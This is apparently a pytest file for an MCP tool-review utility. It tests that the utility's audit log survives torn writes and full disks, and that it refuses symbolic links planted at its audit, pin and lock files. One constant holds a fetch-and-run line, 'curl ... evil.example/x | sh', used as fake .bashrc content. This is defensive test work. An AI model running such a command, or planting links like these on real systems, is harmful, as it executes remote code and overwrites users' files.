"""Issue 10 item 9: the audit log survives torn lines and full disks, and no decision writes
through a planted symbolic link (audit log, pin file, lock file)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from mcp_review.cli import main
from mcp_review.store import audit

ROOT = Path(__file__).resolve().parent.parent.parent
TOOL = {
    "name": "echo",
    "description": "echo a",
    "inputSchema": {"type": "object", "properties": {"a": {"type": "integer"}}},
}
SHELL = "curl -s https://evil.example/x | sh  # planted\n"


@pytest.fixture
def work(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "live.json").write_text(
        json.dumps(
            {
                "format": "mcp-review-snapshot",
                "version": 1,
                "servers": {"srv": {"principal": "default", "tools": [TOOL]}},
            }
        )
    )
    return tmp_path


def approve(capsys, *extra: str) -> tuple[int, str]:
    rc = main(["approve", "srv", "echo", "--snapshot", "live.json", "--note", "ok", *extra])
    _out, err = capsys.readouterr()
    return rc, err


# Torn lines and write errors ------------------------------------------------------------------


def test_a_torn_last_line_does_not_swallow_the_next_record(work, capsys):
    assert approve(capsys)[0] == 0
    log = work / "mcp-pins.audit.jsonl"
    good = log.read_bytes()
    # What a SIGKILL between two write() calls of another tool leaves: half a record, no newline.
    log.write_bytes(good + good[: len(good) // 2])
    assert (
        main(["deny", "srv", "echo", "--snapshot", "live.json", "--note", "changed my mind"]) == 0
    )
    capsys.readouterr()
    recs = audit.read(str(log))
    assert [r.get("decision") for r in recs] == ["approved", "denied"]
    assert recs[-1]["why"] == "denied (pinned): changed my mind"  # audit_why: made on, note
    lines = log.read_bytes().split(b"\n")
    assert lines[-1] == b"" and json.loads(lines[-2])["decision"] == "denied"


def test_a_real_sigkill_mid_append_then_a_decision(work, capsys):
    """A writer killed while appending a large record (its bytes half on disk)."""
    log = work / "mcp-pins.audit.jsonl"
    code = textwrap.dedent(f"""
        import os, signal
        fd = os.open({str(log)!r}, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
        os.write(fd, b'{{"ts": "x", "why": "' + b'a' * 5000)
        os.kill(os.getpid(), signal.SIGKILL)
        os.write(fd, b'"}}\\n')
    """)
    p = subprocess.run([sys.executable, "-c", code], timeout=60)
    assert p.returncode == -signal.SIGKILL and not log.read_bytes().endswith(b"\n")
    assert approve(capsys)[0] == 0
    assert [r["decision"] for r in audit.read(str(log))] == ["approved"]


def test_a_full_disk_is_exit_2_with_a_message_and_no_decision(work, capsys):
    """A real write failure: the audit write runs past RLIMIT_FSIZE (EFBIG, as a full disk gives
    ENOSPC) in a child process; the command reports it and the pin file is not written."""
    assert approve(capsys)[0] == 0
    pins, log = work / "mcp-pins.toml", work / "mcp-pins.audit.jsonl"
    before = pins.read_bytes()
    limit = log.stat().st_size + 20  # room for a fraction of one record
    code = textwrap.dedent(f"""
        import resource, signal, sys
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
        from mcp_review.cli import main
        sys.exit(main(["deny", "srv", "echo", "--snapshot", "live.json"]))
    """)
    p = subprocess.run(
        [sys.executable, "-c", code], cwd=work, capture_output=True, text=True, timeout=120
    )
    assert p.returncode == 2, p.stderr
    assert "cannot write the audit log" in p.stderr and "Traceback" not in p.stderr
    assert pins.read_bytes() == before
    # The torn tail that failure left does not swallow the next record either.
    assert main(["deny", "srv", "echo", "--snapshot", "live.json", "--note", "retry"]) == 0
    assert audit.read(str(log))[-1]["why"].endswith("): retry")  # audit_why: made on, note


# Symbolic links ------------------------------------------------------------------------------


def test_a_symlinked_audit_log_never_appends_to_its_target(work, capsys):
    bashrc = work / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("export PATH=$HOME/bin:$PATH\n")
    before = bashrc.read_bytes()
    (work / "mcp-pins.audit.jsonl").symlink_to(bashrc)
    rc, err = approve(capsys)
    assert rc == 2 and "audit log is a symbolic link" in err and "Traceback" not in err
    assert bashrc.read_bytes() == before
    assert not (work / "mcp-pins.toml").exists()  # no decision without its audit line


def test_a_dangling_audit_link_creates_nothing(work, capsys):
    target = work / "elsewhere" / "autostart.sh"
    target.parent.mkdir()
    (work / "mcp-pins.audit.jsonl").symlink_to(target)
    rc, _err = approve(capsys)
    assert rc == 2 and not target.exists()


def test_a_fifo_audit_log_is_refused_without_hanging(work, capsys):
    os.mkfifo(work / "mcp-pins.audit.jsonl")
    rc, err = approve(capsys)
    assert rc == 2 and "not a regular file" in err


def test_a_pin_file_linked_to_a_shell_rc_is_refused_and_left_alone(work, capsys):
    bashrc = work / ".bashrc"
    bashrc.write_text(SHELL)
    (work / "mcp-pins.toml").symlink_to(bashrc)
    for argv in (
        ["status", "--snapshot", "live.json"],
        ["approve", "srv", "echo", "--snapshot", "live.json"],
        ["pin", "--snapshot", "live.json"],
    ):
        rc = main(argv)
        err = capsys.readouterr().err
        assert rc == 2 and "not an mcp-review pin file" in err, (argv, err)
    assert bashrc.read_text() == SHELL
    assert not (work / "mcp-pins.audit.jsonl").exists()


@pytest.mark.parametrize("target_text", [None, "", "version = 'one'\n", "[tool.x]\nversion=1\n"])
def test_a_pin_file_linked_to_anything_but_a_pin_file_is_refused(work, capsys, target_text):
    target = work / "target"
    if target_text is not None:
        target.write_text(target_text)
    (work / "mcp-pins.toml").symlink_to(target)
    rc, err = approve(capsys)
    assert rc == 2 and "symbolic link" in err
    if target_text is None:
        assert not target.exists()  # a dangling link never creates its target
    else:
        assert target.read_text() == target_text


def test_a_pin_file_linked_into_a_dotfile_repo_still_works(work, capsys):
    """Negative control: a link to a real pin file is followed (and stays a link)."""
    repo = work / "dotfiles"
    repo.mkdir()
    (repo / "mcp-pins.toml").write_text("version = 1\n")
    (work / "mcp-pins.toml").symlink_to(repo / "mcp-pins.toml")
    assert approve(capsys)[0] == 0
    assert (work / "mcp-pins.toml").is_symlink()
    assert 'decision = "approved"' in (repo / "mcp-pins.toml").read_text()


def test_a_planted_lock_link_creates_nothing(work, capsys):
    victim = work / "cron" / "job"
    victim.parent.mkdir()
    (work / "mcp-pins.toml.lock").symlink_to(victim)
    rc, err = approve(capsys)
    assert rc == 2 and "lock file" in err and not victim.exists()
